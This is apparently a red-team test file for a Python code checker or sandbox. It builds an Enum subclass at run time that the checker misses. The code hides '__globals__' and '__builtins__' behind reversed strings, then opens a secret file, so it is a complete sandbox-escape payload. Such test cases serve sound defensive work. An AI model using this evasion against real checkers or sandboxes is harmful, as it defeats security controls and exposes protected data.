# family: red team, round 22 (what a method's self may be: classes reaching parameters, methods run with any self)
# Chain: Enum's functional API with type=Reader makes, at run time, an Enum subclass M of the tool's class that
# the checker never sees as a class statement (class_constants._plain_class looks only at class statements).
# Its member named FIELDS shadows Reader's class constant FIELDS on every member, so in Reader.__call__ the
# trusted `for key in self.FIELDS` iterates that member (Reader.__iter__ over its value): run-time names.
from enum import Enum


class Reader:
    FIELDS = ("name",)

    def __init__(self, *data):
        self.data = data

    def __iter__(self):
        return iter(self.data)

    def __call__(self, fn):
        out = []
        for key in self.FIELDS:
            out.append(getattr(fn, key))
        return out


def helper():
    return 1


def run():
    names = ("".join(reversed("__slabolg__")),)
    m = Enum("M", [("FIELDS", names), ("A", ("x",))], type=Reader)
    got = m.A(helper)[0]
    print(sorted(got.keys())[:8])
    b = got["".join(reversed("__snitliub__"))]
    print(b)
    print(getattr(b, "open")("/tmp/r22/work/secret.txt").read())


run()
